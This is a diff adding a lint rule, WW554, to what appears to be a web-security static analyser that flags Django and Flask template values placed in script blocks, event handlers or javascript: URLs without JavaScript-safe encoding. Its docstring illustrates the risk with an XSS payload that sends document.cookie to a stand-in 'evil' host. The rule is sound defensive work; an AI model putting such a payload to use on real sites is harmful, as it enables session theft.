@@ -1,0 +1,91 @@
+"""WW554: template values written into JavaScript without a JavaScript-safe encoding."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from webwarden.findings import Confidence, Finding, Practice, Severity
+from webwarden.parse.templates import ParsedTemplate
+from webwarden.rules.base import Framework, TemplateRule
+from webwarden.rules.xss._script import javascript_kind, script_problem
+from webwarden.rules.xss._template import by_dialect, outputs, shown
+
+
+class TemplateVariableInScript(TemplateRule):
+    """## What it does
+    Finds template values written where the browser runs them as JavaScript: inside a
+    `<script>` block outside a quoted string (or inside a `` `template literal` ``),
+    in an inline event handler (`onclick="..."`), or after `javascript:` in a URL,
+    without a JavaScript-safe encoding: `|tojson` in Jinja2, `json_script` in Django
+    (or `escapejs` inside a quoted string). Jinja2's `tojson` inside a double-quoted
+    attribute is reported too: its output keeps `"`.
+
+    ## Why is this bad?
+    Autoescaping escapes HTML, not JavaScript. `var n = {{ count }};` runs
+    `1; fetch('//evil/?'+document.cookie)` if that is what `count` holds, and in
+    `onclick="show('{{ name }}')"` the browser turns `&#x27;` back into `'` before the
+    handler runs, so a name can close the string and add code.
+
+    ## Known problems
+    A value that is always a number or a boolean is harmless; add `|int` (or
+    `|tojson`) to say so. Values in `<script type="application/json">` and other
+    non-executable scripts are not reported.
+
+    ## Example
+    ```html
+    <script>
+      const user = {{ username }};
+    </script>
+    ```
+
+    ## Fix
+    ```html
+    <script>
+      const user = {{ username|tojson }};
+    </script>
+    ```
+
+    ## References
+    - [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
+    - [Flask: standard filters, tojson](https://flask.palletsprojects.com/en/stable/templating/#standard-filters)
+    - [Django: json_script](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
+    - [OWASP: XSS prevention, JavaScript contexts](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
+    """
+
+    code = "WW554"
+    name = "template-variable-in-script"
+    practice = Practice.XSS
+    severity = Severity.MEDIUM
+    confidence = Confidence.MEDIUM
+    cwe = 79
+    message = "`{{{{ {value} }}}}` is written into {where}: {problem}"
+    fix = "{fix}"
+    frameworks = frozenset({Framework.DJANGO, Framework.FLASK})
+    escalates = True
+
+    def check_template(self, template: ParsedTemplate) -> Iterator[Finding]:
+        if not template.is_html:
+            return
+        fix = by_dialect(
+            template,
+            "encode the value with `|tojson` (in single-quoted attributes), or pass data through a `data-` attribute",
+            'pass the value with `{{ value|json_script:"id" }}` and read it with `JSON.parse`, or use `|escapejs` inside a quoted string',
+        )
+        for node, expression in outputs(template):
+            if node.start in template.escape_off:
+                continue  # NOTE: WW551 reports every value of an autoescape-off block
+            placement = template.placement(node)
+            kind = javascript_kind(template, placement)
+            if not kind:
+                continue
+            problem = script_problem(template, expression, placement, kind)
+            if not problem:
+                continue
+            where = {
+                "script": "a `<script>` block",
+                "handler": f"the `{placement.attribute}` event handler",
+                "url": f"a `javascript:` URL in `{placement.attribute}`",
+            }[kind]
+            yield self.at(
+                template, node, value=shown(expression), where=where, problem=problem, fix=fix
+            )
